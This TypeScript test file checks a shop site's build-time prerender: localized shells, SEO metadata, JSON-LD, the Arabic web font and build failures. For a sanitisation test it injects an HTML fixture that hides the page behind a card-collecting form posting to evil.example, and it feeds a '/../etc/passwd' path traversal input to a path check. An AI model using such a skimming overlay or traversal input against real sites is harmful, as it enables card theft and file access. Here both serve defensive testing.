import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { JSDOM, VirtualConsole } from 'jsdom';

import { startBackend } from '../../embedded-backend/src/server';
import { serviceClient } from './helpers/api';
import { deliverOrder } from './helpers/deliver';
import { orderInput } from './helpers/seed-ids';
import { BOOT_SCRIPT } from '../../scripts/prerender/boot-script';
import { pageDocument, pageFile, splitShell, withoutState } from '../../scripts/prerender/page-document';
import {
  ARABIC_SPA_SHELL,
  prerenderSite,
  shellPages,
  SPA_SHELL,
} from '../../scripts/prerender/prerender-site';
import { ARABIC_FONT, trimArabicFont } from '../../scripts/site-files/arabic-font';
import { PRERENDERED_STATE_ID, type PrerenderedState } from '../../src/app/prerendered-state';

/**
 * The build's prerender, on the seeded database: each public page is written as complete HTML with
 * its head tags, JSON-LD, markup and the data the browser hydrates from, and asks for the app's
 * JavaScript only through the boot script. The shell Vite wrote is kept as spa.html for other routes.
 */
const SITE = 'https://shop.example';
// What `vite build` writes (the parts that matter): entry module, its preloads, CSS, title, description.
const VITE_INDEX = `<!doctype html>
<html lang="en">
  <head>
    <meta charset="UTF-8" />
    <meta name="viewport" content="width=device-width, initial-scale=1.0" />
    <title>Zellij — shell</title>
    <meta
      name="description"
      content="The shell's description."
    />
    <script type="module" crossorigin src="/assets/index-abc.js"></script>
    <link rel="modulepreload" crossorigin href="/assets/react-def.js">
    <link rel="stylesheet" crossorigin href="/assets/index-ghi.css">
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>
`;

const ARABIC_FONT_ASSET = 'assets/noto-naskh-arabic-arabic-wght-normal-Xy12_ab3.woff2';

type Backend = Awaited<ReturnType<typeof startBackend>>;
let backend: Backend;
let outDir: string;
let paths: Record<'product' | 'soldOut' | 'recipe' | 'ritual', string>;

async function firstSlug(sql: string): Promise<string> {
  const { rows } = await backend.db.query<{ slug: string }>(sql);
  return rows[0]!.slug;
}

function page(routePath: string): Document {
  return new JSDOM(readFileSync(path.join(outDir, pageFile(routePath)), 'utf8')).window.document;
}

function jsonLd(doc: Document): Record<string, unknown>[] {
  return Array.from(doc.querySelectorAll('script[type="application/ld+json"]')).flatMap((script) => {
    const parsed = JSON.parse(script.textContent ?? '') as
      Record<string, unknown> | Record<string, unknown>[];
    return Array.isArray(parsed) ? parsed : [parsed];
  });
}

const TAKEOVER_HTML =
  '<style>body{display:none}</style><div style="position:fixed;inset:0" class="fixed inset-0">' +
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form></div>' +
  '<img id="cart" src="https://tracker.example/p.gif"><img src="articles/kept.webp" alt="Kept">' +
  '<p><a href="https://artisans.example">Makers</a></p>';

/** A customer's published review of the product: a delivered line of their own order, as submit_review checks. */
async function publishedReview(slug: string) {
  const created = await serviceClient(backend).auth.admin.createUser({
    email: 'prerender-reviewer@example.com',
    password: 'Correct-horse-battery-9',
    email_confirm: true,
  });
  if (created.error) throw created.error;
  const { rows: found } = await backend.db.query<{ id: string }>('select id from products where slug = $1', [
    slug,
  ]);
  const { rows } = await backend.db.query<{ o: { id: string; items: { id: string; product_id: string }[] } }>(
    'select place_order($1) as o',
    [orderInput([{ product_id: found[0]!.id, quantity: 1 }], { user_id: created.data.user.id })],
  );
  const { id, items } = rows[0]!.o;
  await deliverOrder(backend.db, id);
  await backend.db.query(
    `insert into reviews (order_item_id, product_id, user_id, rating, title, body, locale, reviewer_name, status, published_at)
     values ($1, $2, $3, 4, 'Sturdy and lovely', 'Used every day.', 'fr', 'Amina T.', 'published', now())`,
    [items[0]!.id, items[0]!.product_id, created.data.user.id],
  );
}

const types = (doc: Document) => jsonLd(doc).map((block) => block['@type']);

beforeAll(async () => {
  backend = await startBackend({ dataDir: null, port: 0, pgPort: 0, functions: false });
  paths = {
    product: `/product/${await firstSlug(`select slug from products where in_stock order by slug limit 1`)}`,
    soldOut: `/product/${await firstSlug(`select slug from products where not in_stock order by slug limit 1`)}`,
    recipe: `/recipe/${await firstSlug(`select slug from articles where category = 'recipe' and published order by slug limit 1`)}`,
    ritual: `/ritual/${await firstSlug(`select slug from articles where category = 'ritual' and published order by slug limit 1`)}`,
  };
  // An editor's row that tries to take over the page: the server render must sanitise it like the browser.
  await backend.db.query(`update articles set body = body || $1 where slug = $2`, [
    TAKEOVER_HTML,
    paths.ritual.split('/').pop(),
  ]);
  await publishedReview(paths.product.split('/').pop()!);
  outDir = mkdtempSync(path.join(tmpdir(), 'zellij-prerender-'));
  writeFileSync(path.join(outDir, 'index.html'), VITE_INDEX);
  // What arabicFontPlugin emits into the build: the trimmed Arabic font under a hashed name.
  const arabicFont = createRequire(import.meta.url).resolve(
    `${ARABIC_FONT.package}/files/${ARABIC_FONT.file}`,
  );
  mkdirSync(path.join(outDir, 'assets'));
  writeFileSync(path.join(outDir, ARABIC_FONT_ASSET), await trimArabicFont(readFileSync(arabicFont)));
  // The app reads these through import.meta.env, exactly as the client build does.
  process.env.VITE_SITE_URL = SITE;
  process.env.VITE_SUPABASE_URL = backend.url;
  const report = await prerenderSite(
    outDir,
    [
      '/',
      '/shop',
      paths.product,
      paths.soldOut,
      `/ar${paths.soldOut}`,
      paths.recipe,
      paths.ritual,
      '/fr/shop',
      '/ar/',
    ],
    { siteUrl: SITE, appSupabaseUrl: backend.url, apiUrl: backend.url },
  );
  // The nine pages asked for, and the eight shells in each of the three languages.
  expect(report.pages).toBe(9 + 8 * 3);
}, 180_000);

afterAll(async () => {
  await backend?.stop();
  if (outDir) rmSync(outDir, { recursive: true, force: true });
});

/** A string of an app catalogue (src/.../i18n/<locale>.json), as the page in that language shows it. */
function catalogue(dir: string, locale: string, key: string): string {
  const strings = JSON.parse(readFileSync(path.join('src', dir, `${locale}.json`), 'utf8')) as Record<
    string,
    string
  >;
  return strings[key]!;
}

describe("the shells of the visitor's pages", () => {
  const shellFile = (file: string) =>
    new JSDOM(readFileSync(path.join(outDir, file), 'utf8')).window.document;
  const stateOf = (doc: Document) =>
    JSON.parse(doc.getElementById(PRERENDERED_STATE_ID)!.textContent!) as PrerenderedState;
  // The page's heading in each language, and the route pattern the shell is hydrated for.
  const SHELLS: Record<string, { h1: (locale: string) => string; route: string }> = {
    'cart.html': { h1: (l) => catalogue('features/cart/i18n', l, 'title'), route: 'cart' },
    'checkout.html': { h1: (l) => catalogue('features/checkout/i18n', l, 'title'), route: 'checkout' },
    'saved.html': { h1: (l) => catalogue('features/saved/i18n', l, 'title'), route: 'saved' },
    'auth.html': { h1: (l) => catalogue('features/account/i18n/forms', l, 'auth.title'), route: 'auth' },
    'profile.html': { h1: (l) => catalogue('features/account/i18n/profile', l, 'pf.seo'), route: 'profile' },
    'search.html': { h1: (l) => catalogue('features/search/i18n', l, 'heading'), route: 'search' },
    '404.html': { h1: (l) => catalogue('components/ui/i18n', l, '404'), route: '*' },
  };

  it('writes every shell in every language, with its heading in that language, lang and dir, and noindex', () => {
    expect(shellPages()).toHaveLength(8 * 3);
    for (const locale of ['en', 'fr', 'ar']) {
      for (const [file, { h1, route }] of Object.entries(SHELLS)) {
        const doc = shellFile(locale === 'en' ? file : `${locale}/${file}`);
        const where = `${locale}/${file}`;
        expect(doc.documentElement.getAttribute('lang'), where).toBe(locale);
        expect(doc.documentElement.getAttribute('dir'), where).toBe(locale === 'ar' ? 'rtl' : 'ltr');
        expect(doc.querySelector('#main h1')?.textContent, where).toBe(h1(locale));
        expect(doc.querySelector('meta[name="robots"]')?.getAttribute('content'), where).toBe('noindex');
        expect(doc.querySelector('link[rel="alternate"][hreflang]'), where).toBeNull();
        expect(stateOf(doc).shell, where).toBe(route);
        // The chrome is there, in the page's language (the skip link leads to the content).
        expect(doc.querySelector('a[href="#main"]')?.textContent, where).toBe(
          catalogue('components/layout/i18n', locale, 'skip'),
        );
        // The app comes through the boot script, as on every prerendered page.
        expect(doc.querySelector('script[data-entry]'), where).not.toBeNull();
      }
    }
  });

  it("paints the sign-in form's fields and labels, and the empty bag as the build knows it", () => {
    for (const locale of ['en', 'fr', 'ar']) {
      const auth = shellFile(locale === 'en' ? 'auth.html' : `${locale}/auth.html`);
      const email = auth.querySelector<HTMLInputElement>('#main form input[type="email"]');
      expect(email, locale).not.toBeNull();
      expect(auth.querySelector(`label[for="${email!.id}"]`)?.textContent?.trim(), locale).toBeTruthy();
      expect(auth.querySelector('#main form input[type="password"]'), locale).not.toBeNull();
      expect(auth.querySelector('#main [role="tablist"]'), locale).not.toBeNull();
      const cart = shellFile(locale === 'en' ? 'cart.html' : `${locale}/cart.html`);
      expect(cart.querySelector('#main h2')?.textContent, locale).toBe(
        catalogue('features/cart/i18n', locale, 'empty.title'),
      );
    }
  });

  it("writes the order page's frame once for every order, with nothing of any order in it", () => {
    for (const locale of ['en', 'fr', 'ar']) {
      const file = `${locale === 'en' ? '' : `${locale}/`}order-confirmation/shell.html`;
      const doc = shellFile(file);
      expect(stateOf(doc).shell, file).toBe('order-confirmation/:orderId');
      expect(doc.documentElement.getAttribute('lang'), file).toBe(locale);
      expect(doc.querySelector('title')?.textContent, file).toContain(
        catalogue('features/orders/i18n', locale, 'title'),
      );
      expect(doc.querySelector('meta[name="robots"]')?.getAttribute('content'), file).toBe('noindex');
      expect(doc.querySelector('#main [role="status"]')?.textContent, file).toBe(
        catalogue('components/ui/i18n', locale, 'loading'),
      );
      // No order was read to draw it.
      expect(
        stateOf(doc).queries.queries.filter((q) => JSON.stringify(q.queryKey).includes('order')),
      ).toEqual([]);
    }
  });
});

/**
 * A shell as the browser gets it at `url`, with its boot script run (inline here, with the tag's data):
 * what the app then finds in the page.
 */
function bootedShell(file: string, url: string): { location: string; links: (string | null)[] } {
  // Deferred, the boot script runs once the document is parsed: inline, that is at the end of <body>.
  const source = readFileSync(path.join(outDir, file), 'utf8');
  const tag = /<script defer src="[^"]+"( data-entry="[^"]+"(?: data-shell="[^"]+")?)><\/script>/.exec(
    source,
  )!;
  const html = source
    .replace(tag[0], '')
    .replace('</body>', () => `<script${tag[1]}>${BOOT_SCRIPT}</script></body>`);
  // jsdom has no PerformanceObserver: the part after the shell's (waiting for the paint) fails there.
  const { window } = new JSDOM(html, {
    url,
    runScripts: 'dangerously',
    virtualConsole: new VirtualConsole(),
  });
  const doc = window.document;
  const booted = {
    location: (JSON.parse(doc.getElementById(PRERENDERED_STATE_ID)!.textContent!) as PrerenderedState)
      .location,
    links: Array.from(doc.querySelectorAll('a[hreflang]'), (link) => link.getAttribute('href')),
  };
  window.close();
  return booted;
}

describe('a shell at another address of its route (the boot script)', () => {
  const ORDER = '/order-confirmation/9b2f6c1e-3d4a-4e5b-8c7d-0123456789ab';

  it("becomes the order's page: its data names the order's address, its language links lead to the order", () => {
    const doc = bootedShell('fr/order-confirmation/shell.html', `${SITE}/fr${ORDER}`);
    expect(doc.location).toBe(`/fr${ORDER}`);
    expect(doc.links.length).toBeGreaterThan(0);
    expect(new Set(doc.links)).toEqual(new Set([ORDER, `/ar${ORDER}`]));
  });

  it('becomes the not-found page of any unknown address, in its language', () => {
    const doc = bootedShell('ar/404.html', `${SITE}/ar/no/such/page`);
    expect(doc.location).toBe('/ar/no/such/page');
    expect(new Set(doc.links)).toEqual(new Set(['/no/such/page', '/fr/no/such/page']));
  });

  it('is left alone at an address its route does not match, or with a query (the app renders those afresh)', () => {
    for (const url of [`${SITE}/order-confirmation/a/b`, `${SITE}${ORDER}?paypal=cancel`]) {
      const doc = bootedShell('order-confirmation/shell.html', url);
      expect(doc.location, url).toBe('/order-confirmation/shell');
      expect(doc.links, url).toContain('/fr/order-confirmation/shell');
    }
  });

  it('leaves a page that is no shell as it is', () => {
    const doc = bootedShell(pageFile('/fr/shop'), `${SITE}/fr/shop`);
    expect(doc.location).toBe('/fr/shop');
    expect(doc.links).toContain('/ar/shop');
  });
});

describe('prerendered pages', () => {
  it('writes each language with its own <html lang dir>, its chrome in that language and every hreflang', () => {
    const alternates = (doc: Document) =>
      Object.fromEntries(
        Array.from(doc.querySelectorAll('link[rel="alternate"][hreflang]'), (link) => [
          link.getAttribute('hreflang'),
          link.getAttribute('href'),
        ]),
      );
    const english = page('/shop');
    const french = page('/fr/shop');
    const arabic = page('/ar/');
    expect(english.documentElement.getAttribute('lang')).toBe('en');
    expect(english.documentElement.getAttribute('dir')).toBe('ltr');
    expect(french.documentElement.getAttribute('lang')).toBe('fr');
    expect(arabic.documentElement.getAttribute('lang')).toBe('ar');
    expect(arabic.documentElement.getAttribute('dir')).toBe('rtl');
    const shopIn = {
      en: `${SITE}/shop`,
      fr: `${SITE}/fr/shop`,
      ar: `${SITE}/ar/shop`,
      'x-default': `${SITE}/shop`,
    };
    expect(alternates(english)).toEqual(shopIn);
    expect(alternates(french)).toEqual(shopIn);
    expect(alternates(arabic)).toEqual({
      en: `${SITE}/`,
      fr: `${SITE}/fr/`,
      ar: `${SITE}/ar/`,
      'x-default': `${SITE}/`,
    });
    expect(french.querySelector('nav[aria-label="Principale"] a[href="/fr/rituals"]')?.textContent).toBe(
      'Rituels',
    );
    expect(arabic.querySelector('a[href="#main"]')?.textContent).toBe('انتقل إلى المحتوى');
    // The shop's screen is translated, so its content is not marked English (untranslated ones are).
    expect(french.getElementById('main')?.hasAttribute('lang')).toBe(false);
    expect(english.getElementById('main')?.hasAttribute('lang')).toBe(false);
  });

  it("renders a product's gallery: several pictures with srcset from Storage's image transformation", () => {
    const doc = page(paths.product);
    const gallery = doc.querySelector('section[aria-label^="Pictures of"]')!;
    const pictures = [...gallery.querySelectorAll('img')];
    expect(pictures.length).toBeGreaterThanOrEqual(4);
    for (const picture of pictures) {
      expect(picture.getAttribute('srcset')).toContain('/storage/v1/render/image/public/media/products/');
      expect(picture.getAttribute('width')).toBeTruthy();
      expect(picture.getAttribute('height')).toBeTruthy();
    }
    expect(gallery.querySelectorAll('button[aria-label^="Show picture"]')).toHaveLength(3);
  });

  it("keeps index.html's <noscript> with the shop's key links in a prerendered page", () => {
    const indexHtml = readFileSync(path.resolve(import.meta.dirname, '../../index.html'), 'utf8');
    const html = pageDocument({
      shell: splitShell(indexHtml),
      rendered: '<h1>Shop</h1>',
      state: { location: '/shop', queries: { mutations: [], queries: [] } },
      bootSrc: '/assets/boot-x.js',
      locale: 'en',
    });
    const doc = new JSDOM(html).window.document;
    const links = [...doc.querySelectorAll('noscript a')].map((a) => a.getAttribute('href'));
    expect(links).toEqual(['/shop', '/collections', '/rituals', '/recipes', '/contact']);
    expect(doc.querySelector('noscript')?.textContent).toContain('JavaScript is turned off');
  });

  it("keeps Vite's shell as spa.html with only the chrome's data, and writes each page at its clean path", () => {
    const spa = readFileSync(path.join(outDir, SPA_SHELL), 'utf8');
    expect(withoutState(spa)).toBe(VITE_INDEX);
    const doc = new JSDOM(spa).window.document;
    // Rendered in the browser, never hydrated: no markup, and a location no address matches.
    expect(doc.getElementById('root')!.innerHTML).toBe('');
    const state = JSON.parse(doc.getElementById(PRERENDERED_STATE_ID)!.textContent!) as PrerenderedState;
    expect(state.location).toBe('');
    expect(state.queries.queries.map((query) => query.queryKey)).toEqual([['site-banner']]);
    expect(existsSync(path.join(outDir, 'shop.html'))).toBe(true);
    expect(existsSync(path.join(outDir, `${paths.product.slice(1)}.html`))).toBe(true);
  });

  it('asks for the app only through the boot script, which it writes beside the assets', () => {
    const doc = page('/');
    expect(doc.querySelectorAll('script[type="module"], link[rel="modulepreload"]')).toHaveLength(0);
    const boot = doc.querySelectorAll<HTMLScriptElement>('script[defer][src^="/assets/boot-"]');
    expect(boot).toHaveLength(1);
    expect(boot[0]!.dataset.entry).toBe('/assets/index-abc.js');
    expect(readFileSync(path.join(outDir, boot[0]!.getAttribute('src')!), 'utf8')).toBe(BOOT_SCRIPT);
    expect(doc.querySelector('link[rel="stylesheet"]')?.getAttribute('href')).toBe('/assets/index-ghi.css');
  });

  it.each(['/', '/shop', 'product', 'recipe', 'ritual'] as const)(
    '%s has one title and description, an absolute canonical URL and valid JSON-LD',
    (key) => {
      const routePath = key.startsWith('/') ? key : paths[key as keyof typeof paths];
      const doc = page(routePath);
      expect(doc.querySelectorAll('title')).toHaveLength(1);
      expect(doc.title).not.toBe('Zellij — shell');
      const descriptions = doc.querySelectorAll('meta[name="description"]');
      expect(descriptions).toHaveLength(1);
      expect(descriptions[0]!.getAttribute('content')).not.toBe("The shell's description.");
      expect(doc.querySelector('link[rel="canonical"]')?.getAttribute('href')).toBe(
        SITE + (routePath === '/' ? '/' : routePath),
      );
      expect(doc.head.querySelector('meta[property="og:title"]')?.getAttribute('content')).toBe(doc.title);
      for (const block of jsonLd(doc)) expect(block['@context']).toBe('https://schema.org');
    },
  );

  it('renders the home page with the Organization and a WebSite that can be searched', () => {
    const doc = page('/');
    expect(types(doc)).toEqual(expect.arrayContaining(['Organization', 'WebSite']));
    const site = jsonLd(doc).find((block) => block['@type'] === 'WebSite')!;
    expect(JSON.stringify(site.potentialAction)).toContain(`${SITE}/shop?search={search_term_string}`);
    expect(doc.querySelector('#root h1')?.textContent).toBeTruthy();
  });

  it('renders a product with its name, price and an Offer with availability, from the database', async () => {
    const slug = paths.product.split('/').pop()!;
    const { rows } = await backend.db.query<{ title: string; price: string }>(
      'select title, price from products where slug = $1',
      [slug],
    );
    const doc = page(paths.product);
    expect(doc.querySelector('#root h1')?.textContent).toBe(rows[0]!.title);
    expect(doc.querySelector('#root')?.textContent).toContain(`${Number(rows[0]!.price)} MAD`);
    const product = jsonLd(doc).find((block) => block['@type'] === 'Product')!;
    expect(product.name).toBe(rows[0]!.title);
    expect(product.offers).toMatchObject({
      '@type': 'Offer',
      priceCurrency: 'MAD',
      availability: 'https://schema.org/InStock',
    });
    expect(types(doc)).toContain('BreadcrumbList');
    // Its published review, nested as Google's review snippets ask, in the page as served.
    expect(product.aggregateRating).toEqual({
      '@type': 'AggregateRating',
      ratingValue: 4,
      reviewCount: 1,
      bestRating: 5,
      worstRating: 1,
    });
    expect(product.review).toEqual([
      expect.objectContaining({
        '@type': 'Review',
        author: { '@type': 'Person', name: 'Amina T.' },
        reviewRating: { '@type': 'Rating', ratingValue: 4, bestRating: 5, worstRating: 1 },
        inLanguage: 'fr',
      }),
    ]);
  });

  it("renders a sold-out product's back-in-stock form, whose code the browser loads after the page's", () => {
    for (const [routePath, name, field] of [
      [paths.soldOut, 'Notify me when it’s back', 'Email address'],
      [`/ar${paths.soldOut}`, 'أعلِمني عند توفّرها', 'البريد الإلكتروني'],
    ] as const) {
      const doc = page(routePath);
      const heading = [...doc.querySelectorAll('#root h2')].find((h) => h.textContent === name);
      expect(heading, `${routePath}: the form's heading`).toBeDefined();
      const form = doc.querySelector(`section[aria-labelledby="${heading!.id}"] form`)!;
      const input = form.querySelector('input[type="email"]')!;
      expect(form.querySelector(`label[for="${input.id}"]`)?.textContent).toBe(field);
      expect(form.querySelector('button[type="submit"]')).not.toBeNull();
    }
    // An in-stock piece has no such form.
    expect(page(paths.product).querySelector('#main input[type="email"]')).toBeNull();
  });

  it('renders a recipe with Recipe JSON-LD and a ritual with Article JSON-LD', () => {
    expect(types(page(paths.recipe))).toContain('Recipe');
    expect(types(page(paths.ritual))).toContain('Article');
  });

  it('sanitises editor HTML on the server as the browser does', () => {
    const doc = page(paths.ritual);
    const essay = doc.querySelector('img[alt="Kept"]')!.parentElement!;
    expect(essay.querySelectorAll('p').length).toBeGreaterThan(2);
    expect(essay.querySelector('style, form, input, button, [style], [id], [class]')).toBeNull();
    expect([...essay.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      `${backend.url}/storage/v1/object/public/media/articles/kept.webp`,
    ]);
    expect(essay.querySelector('a[href="https://artisans.example/"]')).toHaveProperty(
      'rel',
      'noopener noreferrer nofollow',
    );
  });

  it('carries the data it was rendered from, for its own location only', () => {
    const doc = page(paths.product);
    const script = doc.getElementById(PRERENDERED_STATE_ID)!;
    expect(script.getAttribute('type')).toBe('application/json');
    const state = JSON.parse(script.textContent!) as PrerenderedState;
    expect(state.location).toBe(paths.product);
    expect(state.queries.queries.length).toBeGreaterThan(0);
    expect(state.queries.queries.every((query) => query.state.status === 'success')).toBe(true);
  });

  it('runs again from the shell, not from the prerendered home page', async () => {
    await prerenderSite(outDir, ['/'], { siteUrl: SITE, appSupabaseUrl: backend.url, apiUrl: backend.url });
    const spa = readFileSync(path.join(outDir, SPA_SHELL), 'utf8');
    expect(withoutState(spa)).toBe(VITE_INDEX);
    expect(spa.match(new RegExp(`id="${PRERENDERED_STATE_ID}"`, 'g'))).toHaveLength(1);
    expect(page('/').querySelectorAll('title')).toHaveLength(1);
  }, 60_000);
});

describe('the Arabic web font', () => {
  const html = (file: string) => readFileSync(path.join(outDir, file), 'utf8');
  const fontFaces = (doc: Document) =>
    [...doc.querySelectorAll('style')]
      .map((style) => style.textContent ?? '')
      .filter((css) => css.includes('@font-face'));

  it.each(['/ar/', ARABIC_SPA_SHELL])(
    '%s preloads the font, declares it for Arabic characters only and puts it in front of both stacks',
    (routeOrFile) => {
      const doc = new JSDOM(html(routeOrFile.startsWith('/') ? pageFile(routeOrFile) : routeOrFile)).window
        .document;
      expect(doc.documentElement.getAttribute('lang')).toBe('ar');
      expect(doc.documentElement.getAttribute('dir')).toBe('rtl');
      const preloads = [...doc.head.querySelectorAll('link[rel="preload"][as="font"]')];
      expect(preloads.map((link) => link.getAttribute('href'))).toEqual([`/${ARABIC_FONT_ASSET}`]);
      // Fonts are fetched in CORS mode: a preload without crossorigin would be fetched twice.
      expect(preloads[0]!.hasAttribute('crossorigin')).toBe(true);
      expect(preloads[0]!.getAttribute('type')).toBe('font/woff2');
      const [css, ...more] = fontFaces(doc);
      expect(more).toEqual([]);
      expect(css).toContain(`font-family:"${ARABIC_FONT.family}"`);
      expect(css).toContain(`src:url(/${ARABIC_FONT_ASSET}) format("woff2")`);
      expect(css).toContain('font-display:optional');
      // The letters (alef U+0627 in U+060C-066D) and ZWNJ/ZWJ/LRM, never Latin: digits stay in Inter.
      expect(css).toMatch(/unicode-range:U\+60C-66D,.*U\+200C-200E[;}]/);
      const starts = /unicode-range:([^;}]+)/
        .exec(css!)![1]!
        .split(',')
        .map((run) => parseInt(run.slice(2), 16));
      expect(Math.min(...starts)).toBe(0x60c);
      // The local copy of the same design, held to the web font's line metrics (Noto: 1069/634 of 1000).
      expect(css).toContain('ascent-override:106.9%;descent-override:63.4%;line-gap-override:0%');
      expect(css).toMatch(
        /:root:lang\(ar\)\{--font-sans:"Noto Naskh Arabic Variable", "Noto Naskh Arabic Fallback", "Inter Variable"/,
      );
      expect(css).toContain(
        '--font-display:"Noto Naskh Arabic Variable", "Noto Naskh Arabic Fallback", "Fraunces Variable"',
      );
      // Early in <head>, so the browser asks for it with the stylesheet rather than after it.
      const head = doc.head.innerHTML;
      expect(head.indexOf(ARABIC_FONT_ASSET)).toBeLessThan(head.indexOf('rel="stylesheet"'));
    },
  );

  it.each(['/', '/shop', '/fr/shop'])('%s neither declares nor preloads it', (routePath) => {
    const page = html(pageFile(routePath));
    expect(page).not.toMatch(/naskh|arabic/i);
    expect(fontFaces(new JSDOM(page).window.document)).toEqual([]);
  });

  it('keeps it out of spa.html, the shell of every English and French route that is not prerendered', () => {
    expect(html(SPA_SHELL)).not.toMatch(/naskh|arabic/i);
    const arabicShell = new JSDOM(html(ARABIC_SPA_SHELL)).window.document;
    expect(arabicShell.getElementById('root')!.innerHTML).toBe('');
    const state = JSON.parse(
      arabicShell.getElementById(PRERENDERED_STATE_ID)!.textContent!,
    ) as PrerenderedState;
    expect(state.location).toBe('');
    expect(arabicShell.querySelector('script[type="module"]')?.getAttribute('src')).toBe(
      '/assets/index-abc.js',
    );
  });

  it('fails the build when it has no Arabic font, instead of shipping Arabic pages without one', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'zellij-prerender-no-font-'));
    try {
      writeFileSync(path.join(dir, 'index.html'), VITE_INDEX);
      await expect(
        prerenderSite(dir, ['/ar/'], { siteUrl: SITE, appSupabaseUrl: backend.url, apiUrl: backend.url }),
      ).rejects.toThrow(/Expected one Arabic web font .* found 0: was the build made with arabicFontPlugin/);
      expect(existsSync(path.join(dir, 'ar/index.html'))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('bad input', () => {
  it('fails the build when a page cannot get its data, instead of shipping its error state', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'zellij-prerender-bad-'));
    try {
      writeFileSync(path.join(dir, 'index.html'), VITE_INDEX);
      // Port 9 (discard) refuses connections: the database is unreachable.
      await expect(
        prerenderSite(dir, [paths.product], {
          siteUrl: SITE,
          appSupabaseUrl: backend.url,
          apiUrl: 'http://127.0.0.1:9',
        }),
      ).rejects.toThrow(/could not be loaded/);
      expect(existsSync(path.join(dir, `${paths.product.slice(1)}.html`))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);

  it.each(['/../etc/passwd', '/a//b', '/./x'])('refuses to write a page outside the build for %s', (bad) => {
    expect(() => pageFile(bad)).toThrow('Refusing to write a page');
  });

  it('refuses an index.html that is not a Vite build', () => {
    expect(() => splitShell('<html><body><div id="root"></div></body></html>')).toThrow(
      'is it a Vite build?',
    );
  });
});
